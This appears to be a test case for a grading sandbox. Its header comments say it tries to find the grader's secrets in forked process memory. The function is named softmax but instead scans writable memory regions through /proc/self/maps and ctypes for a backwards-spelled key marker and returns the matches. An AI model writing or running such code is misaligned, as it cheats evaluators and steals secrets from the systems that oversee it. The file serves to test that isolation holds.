# tries: search its own memory, which is a copy of the zygote's, for the grader's secrets
# stopped by: fork
# expect: returned
# proof: loot
# control: naive
# wall: 6

import ctypes

import numpy as np


def softmax(x, axis=-1):
    needle = bytes(reversed(b":YROMEM-NI-YEK"))  # spelled backwards, so as not to find itself
    found = [b"nothing"]
    try:
        with open("/proc/self/maps") as file:
            lines = file.readlines()
    except OSError:
        return np.zeros(1)
    for line in lines:
        span, rights, *rest = line.split()
        start, end = (int(part, 16) for part in span.split("-"))
        if not rights.startswith("rw") or end - start > 2**26 or "[v" in line:
            continue
        block = ctypes.string_at(start, end - start)
        place = block.find(needle)
        while place >= 0:
            found.append(block[place : place + 64])
            place = block.find(needle, place + 1)
    return np.frombuffer(b"\n".join(found), dtype=np.uint8)
